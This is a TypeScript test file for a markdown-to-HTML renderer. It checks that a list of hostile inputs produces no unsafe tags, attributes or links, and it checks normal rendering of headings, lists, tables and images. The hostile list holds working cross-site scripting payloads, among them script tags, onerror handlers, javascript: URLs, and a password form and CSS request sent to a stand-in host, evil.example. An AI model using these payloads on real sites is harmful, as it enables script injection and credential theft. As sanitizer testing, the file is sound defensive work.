import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type MarkdownPlace, renderMarkdown } from './render.ts';

const place: MarkdownPlace = { below: 1, pictures: /^\/media\/[0-9a-f]{64}\.png$/ };
const OWN = `/media/${'ab'.repeat(32)}.png`;
const html = (source: string) => renderMarkdown(source, place).html;

/** Every tag as the browser would see it: name and attributes. */
function tagsOf(markup: string): { name: string; attributes: Record<string, string> }[] {
  return [...markup.matchAll(/<([a-z][a-z0-9]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/gi)].map((match) => ({
    name: (match[1] ?? '').toLowerCase(),
    attributes: Object.fromEntries(
      [...(match[2] ?? '').matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map((pair) => [pair[1] ?? '', pair[2] ?? '']),
    ),
  }));
}
const KNOWN =
  'p h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong s a img hr br div table thead tbody tr th td'.split(' ');
const HARMLESS = 'href title rel src alt width height decoding start class tabindex role aria-label scope'.split(' ');

/** What no text may bring forth, whatever it says. */
function harms(markup: string): string[] {
  const found = tagsOf(markup).flatMap(({ name, attributes }) => [
    ...(KNOWN.includes(name) ? [] : [`<${name}>`]),
    ...Object.keys(attributes).filter((attribute) => !HARMLESS.includes(attribute)),
    ...(attributes.href !== undefined && !/^(https?:\/\/|mailto:|tel:|\/(?!\/)|#)/i.test(attributes.href)
      ? [attributes.href]
      : []),
    ...(attributes.src !== undefined && !place.pictures.test(attributes.src) ? [attributes.src] : []),
  ]);
  // Whatever is left of a tag that is none of ours stands as text.
  const rest = markup.replace(/<\/?[a-z][^<>]*>/gi, '');
  return rest.includes('<') ? [...found, 'a bare <'] : found;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{background:url(//evil.example)}</style>',
  '<form action=//evil.example><input name=password></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](  javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](https://evil.example/track.png)',
  `![" onerror="alert(1)](${OWN})`,
  `![x](${OWN} "\\" onload=\\"alert(1)")`,
  '[x](/a "\\" onclick=\\"alert(1)")',
  '```"><script>alert(1)</script>\ncode\n```',
  '| <script> | b |\n|:--|--:|\n| <b onclick=x> | d |',
  '# <img src=x onerror=alert(1)>',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '`<script>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<script>alert(1)</script>',
];

describe('hostile texts', () => {
  it.each(HOSTILE)('%j does no harm', (source) => {
    expect(harms(html(source))).toEqual([]);
  });

  it.each(['<script>', '<p onclick="x">', '<a href="javascript:x">', '<img src="//evil.example/x">', 'a < b', '<b/>'])(
    'would be found out: %s',
    (markup) => expect(harms(markup)).not.toEqual([]),
  );

  it('whatever is thrown at it', () => {
    const pieces = fc.constantFrom(
      ...HOSTILE,
      '\n',
      '\n\n',
      '> ',
      '- ',
      '**',
      '`',
      '[',
      '](',
      ')',
      '![',
      '<',
      '"',
      "'",
      '&',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => harms(html(parts.join(''))).length === 0),
      { numRuns: 400 },
    );
  });

  it.each([
    ['quotations', '> '.repeat(15_000)],
    ['lists', Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
    ['emphasis', '*a '.repeat(13_000)],
    ['brackets', '['.repeat(40_000)],
    ['unclosed links', '[a]('.repeat(10_000)],
    ['pictures in pictures', '!['.repeat(15_000)],
    ['backticks', Array.from({ length: 280 }, (_, n) => '`'.repeat(n)).join(' ')],
  ])('comes to an end with very many %s, and stays shallow', (_name, source) => {
    const markup = html(source);
    expect(harms(markup)).toEqual([]);
    let depth = 0;
    let deepest = 0;
    for (const [tag] of markup.matchAll(/<\/?[a-z][^>]*>/g)) {
      if (/^<(img|hr|br)/.test(tag)) continue;
      depth += tag.startsWith('</') ? -1 : 1;
      deepest = Math.max(deepest, depth);
    }
    expect(deepest).toBeLessThanOrEqual(60);
  });
});

describe('ordinary texts', () => {
  it('puts headings below the heading of the page, and skips no level', () => {
    expect(html('# 一\n\n## 二\n\n###### 六')).toBe('<h2>一</h2>\n<h3>二</h3>\n<h4>六</h4>\n');
    expect(html('### 一\n\n##### 二\n\n### 三')).toBe('<h2>一</h2>\n<h3>二</h3>\n<h2>三</h2>\n');
    expect(renderMarkdown('# 一', { ...place, below: 2 }).html).toBe('<h3>一</h3>\n');
  });

  it('keeps lists, tables, quotations, links and emphasis', () => {
    expect(html('1. **甲**\n2. 乙')).toBe('<ol>\n<li><strong>甲</strong></li>\n<li>乙</li>\n</ol>\n');
    expect(html('|a|b|\n|-|-|\n|c|d|')).toContain('<th scope="col">a</th>');
    expect(html('[办理指南](/guide#part-2)')).toBe('<p><a href="/guide#part-2">办理指南</a></p>\n');
    expect(html('[法律](https://flk.example/a)')).toContain('<a href="https://flk.example/a" rel="noopener">法律</a>');
    expect(html('打开 https://flk.example/a 查看')).toContain('<a href="https://flk.example/a" rel="noopener">');
    expect(html('写信到 a@b.example')).not.toContain('<a');
  });

  it('shows own pictures with their words and their size, and names what is missing', () => {
    const sized = renderMarkdown(`![登录页面](${OWN})`, { ...place, sizeOf: () => ({ width: 640, height: 480 }) });
    expect(tagsOf(sized.html).find(({ name }) => name === 'img')?.attributes).toEqual({
      ...{ src: OWN, alt: '登录页面', width: '640', height: '480', decoding: 'async' },
    });
    expect(sized.faults).toEqual([]);
    expect(renderMarkdown(`![](${OWN})`, place).faults).toEqual([{ fault: 'picture_without_words', address: OWN }]);
    const foreign = renderMarkdown('甲 ![图](https://a.example/b.png) 乙', place);
    expect(foreign.faults).toEqual([{ fault: 'picture_from_elsewhere', address: 'https://a.example/b.png' }]);
    expect(foreign.html).toBe('<p>甲  乙</p>\n');
  });

  it('tells the plain words, block by block', () => {
    expect(renderMarkdown('# 标题\n\n第一段，**重点**和[链接](/a)。\n\n- 甲\n- 乙', place).words).toBe(
      '标题\n第一段，重点和链接。\n甲\n乙',
    );
  });
});
